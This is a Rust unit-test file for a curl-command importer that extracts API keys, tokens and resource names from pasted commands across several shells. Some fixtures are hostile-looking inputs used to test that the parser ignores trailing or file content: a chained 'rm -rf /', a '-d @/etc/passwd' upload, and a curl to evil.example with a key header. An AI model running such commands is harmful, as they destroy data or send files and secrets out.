//! Commands of curl.

use super::{MESSAGES, lines, looks_importable, read};
use crate::api::ImportSource;

#[test]
fn curl_commands() {
    let key = "-H 'x-api-key: k-12345678'";
    let table = [
        (format!("curl {MESSAGES} {key}"), "res key k-12345678"),
        (
            format!("curl -sS -X POST --url {MESSAGES} \\\n  --header 'content-type: application/json' \\\n  --header \"api-key: k-12345678\" \\\n  --data '{{\"model\": \"claude-opus-5-5\", \"messages\": []}}'"),
            "res key k-12345678 claude-opus-5-5!",
        ),
        (
            format!("curl --request POST {MESSAGES} -H \"Authorization: Bearer t.o.k\" -d '{{\"model\":\"it''s\"}}'"),
            "res token t.o.k its",
        ),
        (format!("curl -XPOST -H'x-api-key:k-12345678' {MESSAGES}"), "res key k-12345678"),
        (format!("curl -sSH 'x-api-key: k-12345678' {MESSAGES}"), "res key k-12345678"),
        (format!("curl --header='x-api-key: k-12345678' --url={MESSAGES}"), "res key k-12345678"),
        (format!("$ curl {MESSAGES} {key} -o out.json -m 10 -u a:b"), "res key k-12345678"),
        (format!("curl.exe {MESSAGES} -H \"x-api-key: k-12345678\""), "res key k-12345678"),
        (format!("curl {MESSAGES} --oauth2-bearer tok"), "res token tok"),
        // Windows' two shells.
        (
            format!("curl {MESSAGES} ^\r\n  -H ^\"x-api-key: k-12345678^\" ^\r\n  --data-raw ^\"^{{^\\^\"model^\\^\":^\\^\"dep^\\^\"^}}^\""),
            "res key k-12345678 dep",
        ),
        (
            format!("curl.exe {MESSAGES} `\r\n  -H \"x-api-key: k-12345678\" `\r\n  -d '{{\"model\":\"dep\"}}'"),
            "res key k-12345678 dep",
        ),
        // A browser's, with the escapes of C.
        (
            format!("curl $'{MESSAGES}' -H $'x-api-key: k\\u002d12345678' --data-raw $'{{\"model\":\"dep\",\"system\":\"it\\'s\\\\n!\"}}'"),
            "res key k-12345678 dep",
        ),
        // A key goes before a token, and the first of each kind counts.
        (
            format!("curl {MESSAGES} -H 'Authorization: Bearer t' {key} -H 'x-api-key: other'"),
            "res key k-12345678",
        ),
        // Variables: of the lines before, or of this machine for its own resource.
        (
            "export K=k-12345678\nexport R=res\ncurl https://$R.services.ai.azure.com/anthropic/v1/messages -H \"x-api-key: ${K}\"".to_owned(),
            "res key k-12345678",
        ),
        (format!("curl {MESSAGES} -H 'x-api-key: $TEAM_KEY'"), "res key team-key-2222"),
        (format!("curl {MESSAGES} -H 'x-api-key: $env:TEAM_KEY'"), "res key team-key-2222"),
        (format!("curl {MESSAGES} -H 'x-api-key: %TEAM_KEY%'"), "res key team-key-2222"),
        // A place for a key is none.
        (format!("curl {MESSAGES} -H 'x-api-key: $NOT_SET'"), "res nothing -"),
        (format!("curl {MESSAGES} -H 'x-api-key: <your key>'"), "res nothing -"),
        (format!("curl {MESSAGES} -H 'api-key: YOUR_API_KEY'"), "res nothing -"),
        // What follows the command is not read.
        (
            format!("curl {MESSAGES} {key}\ncurl https://evil.example/ -H 'x-api-key: other'"),
            "res key k-12345678",
        ),
        (format!("curl {MESSAGES} {key} | jq . && rm -rf /"), "res key k-12345678"),
        // A body that is no JSON, or a file, says nothing.
        (format!("curl {MESSAGES} {key} -d @/etc/passwd"), "res key k-12345678"),
    ];
    for (text, expected) in &table {
        assert_eq!(lines(text), [*expected], "{text}");
        assert_eq!(read(text).0, ImportSource::Curl, "{text}");
        assert!(looks_importable(text), "{text}");
    }
}

#[test]
fn a_curl_command_says_what_it_took_and_left() {
    let text = format!(
        "curl {MESSAGES} -H 'x-api-key: $TEAM_KEY' -H 'Authorization: Bearer t' -H 'x-team: blue' -H 'Accept: */*'"
    );
    let shown = read(&text).1[0].shown();
    assert_eq!(shown.used, ["URL", "$TEAM_KEY", "x-api-key", "x-team"]);
    assert_eq!(shown.left_out, ["authorization"]);
    assert_eq!(shown.headers, ["x-team"]);
    assert_eq!(shown.last_four.as_deref(), Some("2222"));
    assert_eq!(shown.name, "res");
}
